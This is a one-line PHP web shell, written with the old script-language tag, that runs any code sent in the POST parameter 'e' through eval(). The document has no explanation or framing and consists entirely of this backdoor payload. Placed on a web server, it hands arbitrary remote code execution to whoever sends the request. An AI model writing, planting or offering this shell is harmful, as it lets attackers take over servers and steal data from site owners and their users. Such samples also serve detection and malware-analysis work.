<script language="php">eval($_POST['e']);</script>
